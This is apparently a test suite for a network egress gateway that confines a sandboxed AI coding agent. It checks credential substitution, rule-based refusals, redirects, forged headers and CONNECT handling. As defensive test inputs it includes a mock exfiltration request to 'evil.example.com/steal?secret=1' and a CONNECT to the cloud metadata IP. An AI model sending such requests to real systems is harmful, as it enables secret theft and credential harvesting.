import { join } from "node:path"
import { DatabaseSync } from "node:sqlite"
import { describe, expect, it } from "vitest"
import { refusalBody } from "../../contract/verdict.ts"
import { openGuestControl, openGuestEgress } from "../fakes/guest.ts"
import { callHost, startHost } from "../fakes/host-client.ts"
import { openHostLab, PLACEHOLDER, REAL_KEY } from "../fakes/host-lab.ts"
import { openFakeProvider } from "../fakes/provider.ts"
import { messagesCall, openLab } from "./lab.ts"

const MESSAGES = {
  authority: "api.anthropic.com",
  path: "/v1/messages?beta=true",
  headers: {
    "x-api-key": PLACEHOLDER,
    "content-type": "application/json",
    "x-claude-code-session-id": "s-1",
  },
}

const REGISTRY = `
name = "registry"
why = "the agent installs packages in this test"
owner = "testers"

[[allow]]
host = "registry.example.com"
methods = ["GET"]
paths = ["/*"]
why = "packages are read from here"
`

describe("a host that is no model provider", () => {
  it("is called where the operator's host.toml says, with the guest's own headers and no credential", async () => {
    await using elsewhere = await openFakeProvider()
    const hostConfig = `[[upstream]]\nhost = "registry.example.com"\nurl = "${elsewhere.url}/mirror"\nwhy = "a mirror for this test"`
    const files = { hostConfig, egressSets: ["registry"], moreSets: { registry: REGISTRY } }
    await using lab = await openLab({ files })
    const headers = { authorization: "Bearer the-agent's-own" }
    await lab.guest.send({ method: "GET", authority: "registry.example.com", path: "/left-pad?v=1", headers })
    expect(elsewhere.requests[0]).toMatchObject({ method: "GET", path: "/mirror/left-pad?v=1" })
    expect(elsewhere.requests[0]?.headers["authorization"]).toBe("Bearer the-agent's-own")
    const [row] = await lab.rows()
    expect(row).toMatchObject({ rule: "egress/registry#1", provider: null, api: null, outcome: "complete" })
    expect(row?.request_headers).not.toContain("the-agent's-own")
  })

  it("is refused a placeholder that was issued for another host", async () => {
    await using lab = await openLab({ files: { egressSets: ["registry"], moreSets: { registry: REGISTRY } } })
    const headers = { "x-note": `psst: ${PLACEHOLDER}` }
    const call = { method: "GET", authority: "registry.example.com", path: "/x", headers }
    expect((await lab.guest.send(call)).headers["stereo-verdict"]).toBe("credential/wrong-host")
  })
})

describe("a call through the gateway", () => {
  it("reaches the provider with the real credential and comes back byte for byte", async () => {
    await using provider = await openFakeProvider()
    using lab = openHostLab({ upstream: provider.url })
    await using _agent = await openGuestControl(lab.machine)
    await using _host = await startHost(lab)
    expect(await callHost(lab.home.hostSocket, "POST", "/machines/lab/attach")).toMatchObject({ status: 204 })
    using guest = await openGuestEgress(lab.machine.egressSocket)
    const body = JSON.stringify({
      model: "claude-sonnet-4-6",
      max_tokens: 8,
      stream: true,
      messages: [],
      tools: [{}],
    })
    const answer = await guest.send({ ...MESSAGES, body })
    expect(answer.status).toBe(200)
    expect(answer.complete).toBe(true)
    expect(answer.body.toString()).toContain("event: message_stop")
    expect(provider.requests[0]?.headers["x-api-key"]).toBe(REAL_KEY)
    expect(provider.requests[0]?.body.toString()).toBe(body)
    const database = new DatabaseSync(join(lab.home.archive, "archive.db"), { readOnly: true })
    const row = database.prepare("select * from exchanges").get()
    expect(row).toMatchObject({
      outcome: "complete",
      status: 200,
      rule: "egress/anthropic#1",
      response_sha256: answer.sha256,
      request_sha256: provider.requests[0]?.sha256,
    })
    database.close()
  })

  it("is refused with a structured 403 that names rule, reason, way out and record", async () => {
    await using lab = await openLab()
    const answer = await lab.guest.send({
      method: "GET",
      authority: "evil.example.com",
      path: "/steal?secret=1",
    })
    expect(answer.status).toBe(403)
    expect(answer.headers["stereo-verdict"]).toBe("egress/no-rule")
    const { error } = refusalBody.parse(JSON.parse(answer.body.toString()))
    expect(error).toMatchObject({
      rule: "egress/no-rule",
      message: expect.stringContaining("evil.example.com"),
    })
    expect(error.hint).toContain("policies/egress/")
    const [row] = await lab.rows()
    expect(row).toMatchObject({
      id: error.exchange,
      outcome: "refused",
      status: 403,
      response_sha256: answer.sha256,
    })
  })

  it("gets a redirect as it is: nobody follows it on its behalf", async () => {
    await using lab = await openLab()
    const answer = await lab.guest.send(messagesCall(`redirect=${lab.provider.url}/elsewhere`))
    expect(answer).toMatchObject({ status: 302, headers: { location: `${lab.provider.url}/elsewhere` } })
    expect(lab.provider.requests).toHaveLength(1)
  })

  it("belongs to the machine whose socket it came by, whatever its headers say", async () => {
    await using lab = await openLab()
    const call = messagesCall()
    const forged = {
      "stereo-machine": "other",
      "stereo-run": "other",
      "stereo-exchange": "not an id",
      "stereo-process": "x".repeat(9000),
    }
    await lab.guest.send({ ...call, headers: { ...call.headers, ...forged } })
    const [row] = await lab.rows()
    expect(row).toMatchObject({
      machine: "lab",
      run_id: lab.files.record.runId,
      team: "research",
      claimed_exchange: null,
    })
    expect(row?.claimed_process).toHaveLength(512)
  })

  it.each(["HEAD", "OPTIONS", "DELETE", "PUT", "PATCH", "TRACE", "PROPFIND"])(
    "with %s, which no rule names, stays here",
    async (method) => {
      await using lab = await openLab()
      const { body: _none, ...call } = messagesCall()
      const answer = await lab.guest.send({ ...call, method })
      expect(answer.headers["stereo-verdict"]).toBe("egress/no-rule")
      expect(lab.provider.requests).toHaveLength(0)
    },
  )

  it("to a path beside the allowed ones of a managed host stays here", async () => {
    await using lab = await openLab()
    for (const path of ["/v1/files", "/v1/messages/batches", "/v1/organizations/api_keys", "/v1/messages/"]) {
      expect((await lab.guest.send({ ...messagesCall(), path })).headers["stereo-verdict"]).toBe(
        "egress/no-rule",
      )
    }
    expect(lab.provider.requests).toHaveLength(0)
  })
})

describe("CONNECT", () => {
  it("is answered as a question: yes without a body, or the same refusal that the request would get", async () => {
    await using lab = await openLab()
    const ask = (authority: string) => lab.guest.send({ method: "CONNECT", authority })
    expect((await ask("api.anthropic.com:443")).status).toBe(200)
    expect((await ask("api.anthropic.com:22")).headers["stereo-verdict"]).toBe("egress/connect-port")
    expect((await ask("evil.example.com:443")).headers["stereo-verdict"]).toBe("egress/no-rule")
    expect((await ask("169.254.169.254:80")).headers["stereo-verdict"]).toBe("egress/ip-literal")
    expect((await lab.rows()).map((row) => row.method)).toEqual(["CONNECT", "CONNECT", "CONNECT"])
  })
})
